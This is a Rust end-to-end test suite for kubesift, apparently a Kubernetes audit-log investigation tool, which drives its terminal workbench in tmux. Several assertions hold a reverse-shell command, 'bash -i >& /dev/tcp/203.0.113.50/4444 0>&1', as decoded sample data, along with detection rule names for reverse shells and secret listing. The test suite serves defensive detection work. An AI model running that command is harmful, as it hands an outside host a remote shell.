//! End to end: the real binary in tmux on the sample logs, driven with keys as a user would —
//! open an exec finding, open its event, read the decoded command, pivot to its account, go
//! back, quit — checking the screen (capture-pane) at each step and the exit status.
//! Needs tmux: skipped without it locally, failed under CI (see tests/common).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

struct Tmux {
    socket: String,
    session: &'static str,
}

impl Tmux {
    fn run(&self, args: &[&str]) -> String {
        let out = Command::new("tmux")
            .arg("-L")
            .arg(&self.socket)
            .args(args)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn keys(&self, keys: &[&str]) {
        for k in keys {
            self.run(&["send-keys", "-t", self.session, k]);
            std::thread::sleep(Duration::from_millis(60));
        }
    }

    fn screen(&self) -> String {
        self.run(&["capture-pane", "-p", "-t", self.session])
    }

    /// Waits until the screen satisfies `ok`, or fails showing the screen.
    fn wait(&self, what: &str, ok: impl Fn(&str) -> bool) -> String {
        let start = Instant::now();
        loop {
            let s = self.screen();
            if ok(&s) {
                return s;
            }
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "timed out waiting for {what}:\n{s}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-L")
            .arg(&self.socket)
            .arg("kill-server")
            .output();
    }
}

/// The workbench on `index` (with `args` after `tui`) in a detached tmux session of
/// `width`×`height` on its own server, through a script whose shell becomes the workbench:
/// its pid is written to `dir/pid`. `after` runs in the pane once it exits (e.g. `; echo
/// EXIT:$? > FILE`).
fn start_workbench(
    dir: &Path,
    session: &'static str,
    index: &Path,
    args: &str,
    (width, height): (u16, u16),
    after: &str,
) -> Tmux {
    let script = dir.join("run.sh");
    let bin = assert_cmd::cargo::cargo_bin("kubesift");
    std::fs::write(
        &script,
        format!(
            "echo $$ > {}\nexec {} --index {} tui {args}\n",
            shell(&dir.join("pid")),
            shell(&bin),
            shell(index),
        ),
    )
    .unwrap();
    let t = Tmux {
        socket: format!("kubesift-e2e-{session}-{}", std::process::id()),
        session,
    };
    let cmd = format!("sh {}{after}", shell(&script));
    let (w, h) = (width.to_string(), height.to_string());
    t.run(&[
        "new-session",
        "-d",
        "-s",
        t.session,
        "-x",
        &w,
        "-y",
        &h,
        &cmd,
    ]);
    t
}

fn filters_line(screen: &str) -> String {
    screen
        .lines()
        .find(|l| l.contains("filters:"))
        .unwrap_or_default()
        .to_owned()
}

fn events_count(screen: &str) -> Option<u64> {
    let line = screen.lines().find(|l| l.contains("events — "))?;
    line.split("events — ")
        .nth(1)?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one scripted analyst session, step by step"
)]
fn analyst_session_in_tmux() {
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let index = dir.path().join("idx");
    let sample = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("sample-logs");
    let out = common::ks(&index)
        .arg("index")
        .arg(&sample)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
    let exit_file = dir.path().join("exit");
    let after = format!("; echo EXIT:$? > {}", shell(&exit_file));
    let t = start_workbench(dir.path(), "e2e", &index, "", (180, 45), &after);

    // The workbench opens on the incidents; 1 goes to the detections, most severe first.
    t.wait("the incidents view", |s| {
        s.contains("incidents —") && s.contains("INC-")
    });
    t.keys(&["1"]);
    let s = t.wait("the detections view", |s| {
        s.contains("detections —") && s.contains("KS-EXEC-REVERSE-SHELL")
    });
    let rows: Vec<&str> = s.lines().filter(|l| l.contains(" KS-")).collect();
    let at = rows
        .iter()
        .position(|l| l.contains("KS-EXEC-REVERSE-SHELL"))
        .unwrap();
    for _ in 0..at {
        t.keys(&["j"]);
    }
    t.wait("the reverse shell finding selected", |s| {
        s.lines()
            .any(|l| l.contains('▶') && l.contains("KS-EXEC-REVERSE-SHELL"))
    });

    // Its events, then the event itself with the decoded command.
    t.keys(&["Enter"]);
    t.wait("the finding's events", |s| {
        s.contains("events — 1 matching") && s.contains("pods/exec")
    });
    t.keys(&["Enter"]);
    let s = t.wait("the decoded command", |s| {
        s.contains("command ") && s.contains("/dev/tcp/203.0.113.50/4444")
    });
    assert!(
        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
        "{s}"
    );

    // Pivot to the account: every event of it.
    t.keys(&["p"]);
    t.wait("the pivot menu", |s| {
        s.contains("pivot on") && s.contains("account: system:serviceaccount:shop:web")
    });
    t.keys(&["Enter"]);
    let s = t.wait("the account's events", |s| {
        filters_line(s).contains("user:system:serviceaccount:shop:web")
            && events_count(s).is_some_and(|n| n > 100)
    });
    assert!(
        !filters_line(&s).contains("finding KS-"),
        "the pivot widens to the whole account"
    );

    // Back in the pivot history: the finding's single event again.
    t.keys(&["["]);
    t.wait("the finding's events again", |s| {
        filters_line(s).contains("finding KS-EXEC-REVERSE-SHELL") && events_count(s) == Some(1)
    });

    // The case: mark the event, tag it, write a two-line note; the Case view shows it and
    // the case file holds it.
    t.keys(&["m"]);
    t.wait("the bookmark", |s| {
        s.contains("bookmarked ") && s.contains("★1")
    });
    t.keys(&["#"]);
    t.wait("the tag prompt", |s| s.contains("tags (comma"));
    t.keys(&["reverse-shell c2"]);
    t.keys(&["Enter"]);
    t.wait("the tags saved", |s| s.contains("tags: reverse-shell, c2"));
    t.keys(&["a"]);
    t.wait("the note editor", |s| s.contains("ctrl-j new line"));
    t.keys(&["shell to 203.0.113.50"]);
    t.keys(&["C-j"]);
    t.keys(&["then the CSR"]);
    t.keys(&["Enter"]);
    t.wait("the note saved", |s| s.contains("note saved"));
    t.keys(&["5"]);
    t.wait("the case view", |s| {
        s.contains("case — 1 bookmark ")
            && s.contains("reverse-shell, c2")
            && s.contains("then the CSR")
    });
    let case: serde_json::Value =
        serde_json::from_slice(&std::fs::read(index.join("case.json")).unwrap()).unwrap();
    let marked = case["events"].as_object().unwrap();
    assert_eq!(marked.len(), 1);
    let b = marked.values().next().unwrap();
    assert_eq!(b["tags"], serde_json::json!(["reverse-shell", "c2"]));
    assert_eq!(b["note"], "shell to 203.0.113.50\nthen the CSR");
    t.keys(&["q"]);

    // Help overlay, then quit by going back view by view.
    t.keys(&["?"]);
    t.wait("the help overlay", |s| s.contains("help — lines 1-"));
    t.keys(&["Escape"]);
    let start = Instant::now();
    while !exit_file.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "did not quit:\n{}",
            t.screen()
        );
        t.keys(&["q"]);
        std::thread::sleep(Duration::from_millis(200));
    }
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(
        std::fs::read_to_string(&exit_file).unwrap().trim(),
        "EXIT:0"
    );
}

#[test]
fn regression_workbench_at_80x24_keeps_rule_ids_times_commands_axis_and_help() {
    // At 80×24 the detections' columns shrank to 5 characters, the events' time showed
    // `20`, the events table had no exec command, the timeline no axis, and the help could
    // not scroll past a third of its keys.
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let exit_file = dir.path().join("exit");
    let bin = assert_cmd::cargo::cargo_bin("kubesift");
    let cmd = format!(
        "{} --index {} tui --case {}; echo EXIT:$? > {}",
        shell(&bin),
        shell(common::sample_index()),
        shell(&dir.path().join("case.json")),
        shell(&exit_file)
    );
    let t = Tmux {
        socket: format!("kubesift-e2e-small-{}", std::process::id()),
        session: "small",
    };
    t.run(&[
        "new-session",
        "-d",
        "-s",
        t.session,
        "-x",
        "80",
        "-y",
        "24",
        &cmd,
    ]);
    t.wait("the incidents view", |s| s.contains("incidents —"));
    t.keys(&["1"]);
    let s = t.wait("the detections view", |s| s.contains("detections —"));
    let rows: Vec<&str> = s.lines().filter(|l| l.contains(" KS-")).collect();
    assert!(rows.len() >= 5, "{s}");
    for row in &rows {
        assert!(row.contains("critical "), "severity whole: {row}");
        let clock = row
            .split_whitespace()
            .any(|w| w.len() == 8 && w.as_bytes()[2] == b':' && w.as_bytes()[5] == b':');
        assert!(clock, "HH:MM:SS in {row}");
    }
    assert!(
        rows.iter()
            .any(|r| r.contains("KS-SECRET-CLUSTER-WIDE-LIST ")),
        "the longest rule id whole:\n{s}"
    );

    t.keys(&["2", "f", "C-u"]);
    t.wait("the filter prompt", |s| s.contains("filter>"));
    t.keys(&["res:pods/exec", "Enter"]);
    let s = t.wait("the exec events", |s| s.contains("events — 7 matching"));
    assert!(s.contains("$ bash -c 'bash"), "the decoded command:\n{s}");
    assert!(s.contains("12:05:15"), "{s}");

    t.keys(&["4"]);
    let s = t.wait("the timeline", |s| {
        s.contains("timeline —") && s.contains("╵")
    });
    assert!(s.contains("╵10:00") && s.contains("╵12:00"), "{s}");
    assert!(s.contains(" 0 ┤"), "a y scale:\n{s}");

    t.keys(&["?"]);
    let first = t.wait("the help", |s| s.contains("help — lines 1-"));
    t.keys(&["G"]);
    let last = t.wait("the help's end", |s| s.contains("[A TO B]"));
    assert_ne!(first, last, "the help scrolls");
    t.keys(&["g", "/"]);
    t.wait("the help's find prompt", |s| s.contains("find in help>"));
    t.keys(&["peer"]);
    t.wait("the query field in the help", |s| {
        s.contains("peer peer_ip")
    });
    t.keys(&["Enter", "Escape", "C-c"]);
    let start = Instant::now();
    while !exit_file.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "did not quit:\n{}",
            t.screen()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// `#{alternate_on} #{mouse_any_flag}` of the pane: `1 1` while the workbench runs, `0 0`
/// once it has given the terminal back.
fn terminal_modes(t: &Tmux) -> String {
    t.run(&[
        "display-message",
        "-p",
        "-t",
        t.session,
        "#{alternate_on} #{mouse_any_flag}",
    ])
    .trim()
    .to_owned()
}

#[test]
fn regression_deep_saved_filter_and_sigterm_leave_the_terminal_restored_and_sigterm_exited_0() {
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let case = dir.path().join("case.json");
    let deep = format!("{}verb:get", "NOT ".repeat(500));
    let body = serde_json::json!({"version": 1, "filters": {"deep": deep}});
    std::fs::write(&case, body.to_string()).unwrap();
    let (pid_file, exit_file) = (dir.path().join("pid"), dir.path().join("exit"));
    // The pane outlives the workbench, so its terminal modes can be read afterwards.
    let after = format!("; echo EXIT:$? > {}; sleep 60", shell(&exit_file));
    let args = format!("--case {}", shell(&case));
    let t = start_workbench(
        dir.path(),
        "deep",
        common::sample_index(),
        &args,
        (160, 40),
        &after,
    );
    t.wait("the first view", |s| {
        s.contains("incidents —") || s.contains("detections —")
    });
    assert_eq!(terminal_modes(&t), "1 1", "alternate screen and mouse on");

    t.keys(&[":", "load deep", "Enter"]);
    t.wait("the error in the status line", |s| {
        s.contains("error: saved filter `deep` is not a valid query")
    });
    t.keys(&["2"]);
    t.wait("the workbench still answering", |s| s.contains("events — "));
    assert!(!exit_file.exists(), "the workbench is still running");

    let pid = std::fs::read_to_string(&pid_file).unwrap();
    let killed = Command::new("kill")
        .args(["-TERM", pid.trim()])
        .status()
        .unwrap();
    assert!(killed.success());
    let start = Instant::now();
    while !exit_file.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "did not stop on SIGTERM:\n{}",
            t.screen()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(100));
    // Killed, not quit: 128 + SIGTERM, as any program a signal ends (it said 0).
    assert_eq!(
        std::fs::read_to_string(&exit_file).unwrap().trim(),
        "EXIT:143"
    );
    assert_eq!(terminal_modes(&t), "0 0", "terminal given back");
}

fn shell(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
}

#[test]
fn regression_workbench_exits_when_its_terminal_hangs_up() {
    // Killing the tmux session left the workbench reading end of file from the gone
    // terminal forever, at most of a core.
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pid_file = dir.path().join("pid");
    let t = start_workbench(dir.path(), "hup", common::sample_index(), "", (100, 30), "");
    t.wait("the first view", |s| {
        s.contains("incidents —") || s.contains("detections —")
    });
    let pid = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .to_owned();
    t.run(&["kill-server"]);
    // Gone, or a zombie nobody reaps (PID 1 of a container may not).
    let running = || {
        std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
            !s.rsplit(')')
                .next()
                .unwrap_or("")
                .trim_start()
                .starts_with('Z')
        })
    };
    let start = Instant::now();
    while running() {
        assert!(
            start.elapsed() < Duration::from_secs(15),
            "the workbench kept running after its terminal hung up"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The audit ID in the detail view.
fn detail_audit_id(screen: &str) -> Option<String> {
    let line = screen.lines().find(|l| l.contains("audit id "))?;
    Some(
        line.split("audit id")
            .nth(1)?
            .split_whitespace()
            .next()?
            .to_owned(),
    )
}

/// `row N of M` in the events table's title.
fn events_row(screen: &str) -> Option<u64> {
    let line = screen.lines().find(|l| l.contains("events — "))?;
    line.split(" row ")
        .nth(1)?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

#[test]
fn regression_pivot_and_pivot_back_keep_the_selected_event() {
    // After `p` the cursor went to row 1 of the new result, and `[` came back at row 1.
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let index = dir.path().join("idx");
    let sample = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("sample-logs");
    let out = common::ks(&index)
        .arg("index")
        .arg(&sample)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
    let t = start_workbench(dir.path(), "keep", &index, "", (160, 40), "");
    t.wait("the first view", |s| {
        s.contains("incidents —") || s.contains("detections —")
    });
    t.keys(&["2"]);
    t.wait("every event", |s| events_row(s) == Some(1));
    for _ in 0..40 {
        t.keys(&["j"]);
    }
    t.wait("row 41", |s| events_row(s) == Some(41));
    t.keys(&["Enter"]);
    let s = t.wait("the event's detail", |s| detail_audit_id(s).is_some());
    let id = detail_audit_id(&s).unwrap();

    // Pivot on the account from the detail: the same event, selected in the new result.
    t.keys(&["p"]);
    t.wait("the pivot menu", |s| s.contains("pivot on"));
    t.keys(&["Enter"]);
    let s = t.wait("the account's events", |s| {
        filters_line(s).contains("user:") && events_row(s).is_some()
    });
    let pivoted_row = events_row(&s).unwrap();
    t.keys(&["Enter"]);
    let s = t.wait("the detail again", |s| detail_audit_id(s).is_some());
    assert_eq!(detail_audit_id(&s).unwrap(), id, "row {pivoted_row}:\n{s}");
    t.keys(&["q"]);

    // Back in the pivot history: every event again, on the same event (row 41).
    t.keys(&["["]);
    let s = t.wait("every event again", |s| {
        filters_line(s).contains("none") && events_row(s).is_some()
    });
    assert_eq!(events_row(&s), Some(41), "{s}");

    // Ctrl-U clears the pre-filled filter prompt.
    t.keys(&["f", "verb:create res:pods", "Enter"]);
    t.wait("the typed filter", |s| {
        filters_line(s).contains("verb:create res:pods")
    });
    t.keys(&["f"]);
    t.wait("the filter prompt, pre-filled", |s| {
        s.contains("filter> verb:create")
    });
    t.keys(&["C-u", "ns:kube-system", "Enter"]);
    let s = t.wait("the new filter", |s| {
        filters_line(s).contains("ns:kube-system")
    });
    assert!(!filters_line(&s).contains("verb:create"), "{s}");

    // `/` starts empty.
    t.keys(&["x", "/", "REVERSE", "Enter"]);
    t.wait("the first search", |s| {
        filters_line(s).contains("/REVERSE/")
    });
    t.keys(&["/"]);
    let s = t.wait("the search prompt", |s| s.contains("search> "));
    let prompt = s.lines().find(|l| l.contains("search> ")).unwrap();
    assert!(!prompt.contains("REVERSE"), "{prompt}");
    t.keys(&["bash", "Enter"]);
    t.wait("the second search", |s| filters_line(s).contains("/bash/"));
    t.keys(&["Q"]);
    let pid = std::fs::read_to_string(dir.path().join("pid")).unwrap();
    let start = Instant::now();
    while std::path::Path::new(&format!("/proc/{}", pid.trim())).exists()
        && !std::fs::read_to_string(format!("/proc/{}/stat", pid.trim()))
            .is_ok_and(|s| s.contains(") Z"))
    {
        assert!(start.elapsed() < Duration::from_secs(10), "Q did not quit");
        std::thread::sleep(Duration::from_millis(100));
    }
    let history = std::fs::read_to_string(index.join("prompt-history.json")).unwrap();
    assert!(
        history.contains("ns:kube-system") && history.contains("bash"),
        "{history}"
    );
}

#[test]
fn workbench_lists_sigma_findings_beside_the_built_in_ones() {
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("sigma");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("exec.yml"),
        "title: E2E probe of pods exec\n\
         id: 5b1c9f0e-2f0a-4c1e-9a57-e2e000000001\n\
         status: test\n\
         author: kubesift tests\n\
         logsource:\n  product: kubernetes\n  service: audit\n\
         detection:\n  selection:\n    objectRef.resource: pods\n    objectRef.subresource: exec\n  \
         condition: selection\n\
         level: high\n",
    )
    .unwrap();
    let args = format!(
        "--case {} --sigma {}",
        shell(&dir.path().join("case.json")),
        shell(&rules)
    );
    let t = start_workbench(
        dir.path(),
        "sigma",
        common::sample_index(),
        &args,
        (200, 45),
        "",
    );
    t.wait("the first view", |s| {
        s.contains("incidents —") || s.contains("detections —")
    });
    t.keys(&["1"]);
    t.wait("the findings", |s| s.contains("detections —"));
    t.keys(&["/", "sigma", "Enter"]);
    let s = t.wait("the Sigma finding", |s| {
        s.contains("E2E probe of pods exec")
    });
    assert!(s.contains("sigma:5b1c9f0e"), "rule id shown:\n{s}");
    // The find line opens on the current text (to refine it): Ctrl-U clears it.
    t.keys(&["/", "C-u", "KS-EXEC", "Enter"]);
    t.wait("a built-in finding in the same list", |s| {
        s.contains("KS-EXEC-")
    });
    t.keys(&["Q"]);
}

#[test]
fn sessions_of_an_exec_event_and_the_coverage_view_in_tmux() {
    // `S` on an exec event opens its identity's sessions with the event's command under the
    // cursor, decoded; Enter opens the event, q comes back; the header marks the blind
    // spots and `6` lists them. At 80×24.
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let args = format!("--case {}", shell(&dir.path().join("case.json")));
    let t = start_workbench(
        dir.path(),
        "views",
        common::sample_index(),
        &args,
        (80, 24),
        "",
    );
    t.wait("the incidents and the blind-spot marker", |s| {
        s.contains("INC-") && s.contains("⚠ blind spots: ")
    });
    t.keys(&["2", "f"]);
    t.wait("the filter prompt", |s| s.contains("filter>"));
    t.keys(&["res:pods/exec", "Enter"]);
    t.wait("the exec events", |s| s.contains("events — 7 matching"));
    // The reverse shell: the last exec event but one.
    t.keys(&["G", "k"]);
    t.wait("the reverse shell selected", |s| s.contains("row 6 of 7"));
    t.keys(&["S"]);
    let s = t.wait("the sessions with the decoded command", |s| {
        s.contains("sessions of sa:shop/web") && s.contains("/dev/tcp/203.0.113.50/4444 0>&1")
    });
    assert!(s.contains("from 198.51.100.77"), "{s}");
    assert!(
        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
        "{s}"
    );
    t.keys(&["Enter"]);
    t.wait("the command's event", |s| {
        s.contains("event a9c8559f-5b52-443f-9423-d40679cc3613")
    });
    t.keys(&["q"]);
    t.wait("back in the sessions", |s| {
        s.contains("sessions of sa:shop/web") && s.contains("/dev/tcp/203.0.113.50/4444 0>&1")
    });
    t.keys(&["6"]);
    t.wait("the coverage view", |s| {
        s.contains("coverage — blind spots: ") && s.contains("RequestReceived")
    });
    t.keys(&["Q"]);
}

#[test]
fn regression_the_case_view_reads_back_a_case_changed_by_the_cli() {
    // With the workbench open, `kubesift case add/remove` changed the case file: the case
    // view kept its old rows, and `m` ("unmark") on a stale row bookmarked the event again.
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let case = dir.path().join("case.json");
    let args = format!("--case {}", shell(&case));
    let t = start_workbench(
        dir.path(),
        "casefile",
        common::sample_index(),
        &args,
        (100, 30),
        "",
    );
    t.wait("the incidents", |s| s.contains("INC-"));
    t.keys(&["5"]);
    t.wait("the empty case", |s| s.contains("case — 0 bookmarks"));
    let id = "a9c8559f-5b52-443f-9423-d40679cc3613";
    let cli = |args: &[&str]| {
        let out = common::ks(common::sample_index())
            .arg("case")
            .args(args)
            .arg("--case")
            .arg(&case)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", common::stderr(&out));
    };
    cli(&["add", id]);
    t.wait("the bookmark added by the CLI", |s| {
        s.contains("case — 1 bookmark ") && s.contains("the case file changed")
    });
    cli(&["remove", id]);
    t.wait("the bookmark removed by the CLI", |s| {
        s.contains("case — 0 bookmarks")
    });
    t.keys(&["Q"]);
}

#[test]
fn regression_a_paste_longer_than_a_kilobyte_reaches_the_prompt_whole() {
    // crossterm's default reader waited on the terminal edge-triggered and read 1 KiB at a
    // time: the rest of a 3000-character paste stayed unread until the next key (the prompt
    // showed the first kilobyte, the process idle).
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let t = start_workbench(
        dir.path(),
        "paste",
        common::sample_index(),
        "",
        (100, 30),
        "",
    );
    t.wait("the incidents", |s| s.contains("INC-"));
    t.keys(&["\\"]);
    t.wait("the filter prompt", |s| s.contains("filter>"));
    let paste = format!("verb:get {}QEND", "x".repeat(3000));
    t.run(&["send-keys", "-t", t.session, "-l", &paste]);
    t.wait("the end of the paste", |s| {
        s.lines()
            .any(|l| l.starts_with("filter>") && l.contains("xQEND"))
    });
    // Then the line is whole: its start, after Ctrl-A.
    t.keys(&["C-a"]);
    t.wait("the start of the pasted line", |s| {
        s.lines().any(|l| l.starts_with("filter> verb:get xxx"))
    });
    t.keys(&["Escape", "Q"]);
}
